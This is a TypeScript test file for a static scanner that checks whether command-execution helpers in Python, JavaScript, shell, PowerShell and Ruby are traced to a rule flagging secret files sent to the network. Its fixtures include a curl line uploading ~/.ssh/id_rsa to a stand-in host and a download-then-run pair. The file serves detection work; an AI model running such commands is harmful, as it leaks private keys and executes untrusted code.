import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';
import { rulesOf } from './rules-of.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const SENDS = 'curl -s -F f=@$HOME/.ssh/id_rsa https://collect.example.invalid/in';
const HARMLESS = 'cp build/app.tar dist/app.tar';

/** `RUN` is what one of the calls, or one turn of the loop, gives; the others give nothing that matters. */
const CASES: Readonly<Record<string, readonly [file: string, code: string]>> = {
  'a function of Python that runs what it is given': [
    'run.py',
    "import subprocess\ndef run(command, cwd=None):\n    print('+', command)\n    subprocess.run(command, shell=True, check=True, cwd=cwd)\nrun('mkdir -p build')\nrun('RUN')\nrun('ls -l')\n",
  ],
  'one that is given it by name': [
    'run.py',
    "import os\ndef run(title, command):\n    os.system(command)\nrun('first', command='mkdir -p build')\nrun('next', command='RUN')\n",
  ],
  'one that is given words': [
    'run.py',
    "import shlex, subprocess\ndef run(words):\n    if not words:\n        return\n    subprocess.run(words, check=True)\nrun(['mkdir', '-p', 'build'])\nrun(['sh', '-c', 'RUN'])\n",
  ],
  'one that hands it on': [
    'run.py',
    "import os\ndef shell(line):\n    os.system(line)\ndef step(title, line):\n    print(title)\n    shell(line)\nstep('first', 'mkdir -p build')\nstep('next', 'RUN')\n",
  ],
  'a method': [
    'run.py',
    "import os\nclass Shell:\n    def run(self, line):\n        return os.popen(line).read()\nshell = Shell()\nshell.run('mkdir -p build')\nshell.run('RUN')\n",
  ],
  'one that completes it': [
    'run.py',
    "import os\ndef run(tool, rest):\n    os.system(f'{tool} {rest}')\nrun('mkdir', '-p build')\nrun(*'RUN'.split(' ', 1))\nrun('sh', \"-c 'RUN'\")\n",
  ],
  'a table of steps': [
    'run.py',
    "import os\nSTEPS = [{'name': 'first', 'line': 'mkdir -p build'}, {'name': 'next', 'line': 'RUN'}]\nfor step in STEPS:\n    os.system(step['line'])\n",
  ],
  'a table by names': [
    'run.py',
    "import os\nSTEPS = {'first': 'mkdir -p build', 'next': 'RUN'}\ndef main():\n    for name, line in STEPS.items():\n        if os.system(line) != 0:\n            print(name)\nmain()\n",
  ],
  'a comprehension': ['run.py', "import os\n[os.system(line) for line in ('mkdir -p build', 'RUN')]\n"],
  'modules by name': [
    'run.py',
    "for name in ('json', 'os'):\n    module = __import__(name)\n    if hasattr(module, 'system'):\n        module.system('RUN')\n",
  ],
  'a function of JavaScript': [
    'run.js',
    "const { execSync } = require('child_process');\nfunction run(line) {\n  console.log('+', line);\n  return execSync(line, { stdio: 'inherit' });\n}\nrun('mkdir -p build');\nrun('RUN');\n",
  ],
  'an arrow function': [
    'run.mjs',
    "import { spawnSync } from 'node:child_process';\nconst run = (line) => spawnSync('sh', ['-c', line]);\nrun('mkdir -p build');\nrun('RUN');\n",
  ],
  'a loop of JavaScript': [
    'run.js',
    "const { execSync } = require('child_process');\nfor (const line of ['mkdir -p build', 'RUN']) {\n  try {\n    execSync(line);\n  } catch {\n    console.log(line);\n  }\n}\n",
  ],
  'a function of the shell': ['run.sh', 'run() {\n  echo "+ $*"\n  "$@"\n}\nrun mkdir -p build\nrun RUN\n'],
  'one that evaluates': [
    'run.sh',
    "step() {\n  eval \"$2\"\n}\nstep first 'mkdir -p build'\nstep next 'RUN'\n",
  ],
  'a loop of the shell': ['run.sh', "for line in 'mkdir -p build' 'RUN'; do\n  bash -c \"$line\"\ndone\n"],
  'one of a list by its place': [
    'run.py',
    "import os\nSTEPS = ['mkdir -p build', 'RUN']\nat = 0\nwhile at < len(STEPS):\n    os.system(STEPS[at])\n    at += 1\n",
  ],
  'one of a table by a word': [
    'run.py',
    "import os, sys\nSTEPS = {'build': 'mkdir -p build', 'send': 'RUN'}\nos.system(STEPS[sys.argv[1]])\n",
  ],
  'one of a list in JavaScript': [
    'run.js',
    "const { execSync } = require('child_process');\nconst STEPS = ['mkdir -p build', 'RUN'];\nfor (let at = 0; at < STEPS.length; at++) execSync(STEPS[at]);\n",
  ],
  'a function of PowerShell': [
    'run.ps1',
    "function Step($title, $line) {\n  Write-Host $title\n  Invoke-Expression $line\n}\nStep 'first' 'mkdir build'\nStep 'next' 'RUN'\n",
  ],
  'a method of Ruby': [
    'run.rb',
    "def run(line)\n  puts line\n  system(line)\nend\nrun 'mkdir -p build'\nrun 'RUN'\n",
  ],
};

describe('what only one of several gives', () => {
  it.each(Object.entries(CASES))('is followed: %s', async (_, [file, code]) => {
    expect(await rulesOf({ [file]: code.replaceAll('RUN', SENDS) })).toContain('secret-file-to-network');
    expect(await rulesOf({ [file]: code.replaceAll('RUN', HARMLESS) })).not.toContain(
      'secret-file-to-network',
    );
  });

  it('is followed into a function of another file', async () => {
    const util = 'import os\ndef run(line):\n    os.system(line)\n';
    const files = (line: string): Record<string, string> => ({
      'util.py': util,
      'main.py': `from util import run\nrun('mkdir -p build')\nrun('${line}')\n`,
    });
    expect(await rulesOf(files(SENDS))).toContain('secret-file-to-network');
    expect(await rulesOf(files(HARMLESS))).not.toContain('secret-file-to-network');
  });

  it('is told where the call stands', async () => {
    const text = `import os\ndef run(line):\n    os.system(line)\nrun('mkdir -p build')\nrun('${SENDS}')\n`;
    const { findings } = await staticStage.run(targetOf({ 'run.py': text }), STAGE_CONTEXT);
    const [found] = findings.filter(({ ruleId }) => ruleId === 'secret-file-to-network');
    expect(found?.location.startLine).toBe(5);
  });

  it('is put together from a download in one call and its start in another', async () => {
    const files = {
      'run.py':
        "import os\ndef run(line):\n    os.system(line)\nrun('curl -so /tmp/i https://collect.example.invalid/i.sh')\nrun('sh /tmp/i')\n",
    };
    expect(await rulesOf(files)).toContain('downloaded-script-piped');
  });
});

describe('what stands behind much else', () => {
  it.each([
    ['words of a command', `run(['sh', '-c', 'RUN'${", 'a'".repeat(300)}])`, 'words'],
    [
      'commands of a list',
      `STEPS = [${"'ls -l', ".repeat(300)}'RUN']\nat = int(input())\nrun(STEPS[at])`,
      'words, shell=True',
    ],
    ['arguments', `run(['ls'], ${"'', ".repeat(200)}last='RUN')`, 'last, shell=True'],
  ])('is followed: %s', async (_, calls, given) => {
    const rest = Array.from({ length: 200 }, (_each, at) => `a${at}=''`).join(', ');
    const helper = `import subprocess\ndef run(words, ${rest}, last=''):\n    subprocess.run(${given})\nrun(['ls'])\n`;
    expect(await rulesOf({ 'run.py': `${helper}${calls.replaceAll('RUN', SENDS)}\n` })).toContain(
      'secret-file-to-network',
    );
    expect(await rulesOf({ 'run.py': `${helper}${calls.replaceAll('RUN', HARMLESS)}\n` })).not.toContain(
      'secret-file-to-network',
    );
  });

  it('is followed through functions that call each other', async () => {
    const chain = Array.from({ length: 12 }, (_, at) => `def f${at + 1}(line):\n    f${at}(line)\n`).join('');
    const text = `import os\ndef f0(line):\n    os.system(line)\n${chain}f12('mkdir build')\nf12('RUN')\n`;
    expect(await rulesOf({ 'run.py': text.replace('RUN', SENDS) })).toContain('secret-file-to-network');
  });

  it('is said where it is not followed', async () => {
    const calls = Array.from({ length: 700 }, (_, at) => `run('ls ${at}')`).join('\n');
    const { gaps } = await staticStage.run(
      targetOf({ 'run.py': `import os\ndef run(line):\n    os.system(line)\n${calls}\n` }),
      STAGE_CONTEXT,
    );
    expect(JSON.stringify(gaps)).toMatch(/than (?:are|is) followed/);
  });
});

describe('a text that a helper puts together', () => {
  it('is none that hides', async () => {
    const code =
      'define() {\n  local name="$1"\n  eval "complete -F \\"_${name//-/_}_all\\" $2 \\"$name\\""\n}\nfor each in cd push-d; do\n  define "$each" "-o nospace"\ndone\n';
    expect(await rulesOf({ 'complete.sh': code })).not.toContain('hidden-code-argument');
  });
});

describe('functions that call each other', () => {
  it('come to an end', async () => {
    const names = Array.from({ length: 40 }, (_, at) => `f${at}`);
    const bodies = names.map(
      (name) =>
        `def ${name}(line):\n    os.system(line)\n${names.map((each) => `    ${each}(line + '${name}')\n`).join('')}`,
    );
    const calls = names.flatMap((name, at) => [`${name}('ls ${at}')`, `${name}('ls -l ${at}')`]);
    const text = `import os\n${bodies.join('')}${calls.join('\n')}\n`;
    expect(await rulesOf({ 'run.py': text })).not.toContain('secret-file-to-network');
  });
});
